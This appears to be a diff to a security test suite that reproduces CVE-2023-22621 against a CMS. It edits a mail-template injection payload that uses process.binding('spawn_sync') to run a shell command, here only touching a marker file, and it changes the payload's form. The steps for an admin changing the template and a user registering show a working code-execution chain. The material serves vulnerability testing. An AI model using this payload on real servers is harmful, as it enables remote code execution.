@@ -91,6 +91,7 @@ export default {
       form.append('files', new Blob([text], { type: 'text/plain' }), `it's ${index} & more.txt`);
       const { json: uploaded } = await user.post('/upload', form, { statusOnly: true });
       const url = (uploaded as { url?: string }[])?.[0]?.url;
+      user.hide(/_(\w{10})\.txt$/.exec(url ?? '')?.[1]);
       if (url !== undefined) user.note('uploaded', (await user.get(url, { statusOnly: true })).text);
     }
     await user.delete(`${content}/3`, { statusOnly: true });
@@ -127,7 +128,7 @@ export default {
   attacks: [
     {
       id: 'CVE-2023-22621',
-      guard: 'template-injection',
+      guard: 'code-injection',
       title: 'stores a mail template whose expression starts a program, and signs up',
       async attempt(user, { made, appears }) {
         const file = made();
@@ -147,7 +148,7 @@ export default {
         await user.put('/users-permissions/advanced', settings, asAdmin);
         const { json: templates } = await user.get('/users-permissions/email-templates', asAdmin);
         const all = templates as { email_confirmation: { options: { message: string } } };
-        all.email_confirmation.options.message = `<%= \`\${ process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["/bin/sh", "-c", "touch ${file}"], stdio: [{ readable: 1, writable: 1, type: "pipe" }, { readable: 1, writable: 1, type: "pipe" }] }).output }\` %>`;
+        all.email_confirmation.options.message = `<%= \`\${ 1 >= 0 && process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["/bin/sh", "-c", "touch ${file}"], stdio: [{ readable: 1, writable: 1, type: "pipe" }, { readable: 1, writable: 1, type: "pipe" }] }).output }\` %>`;
         await user.put('/users-permissions/email-templates', { 'email-templates': all }, asAdmin);
         await user.post('/api/auth/local/register', {
           username: 'eve',
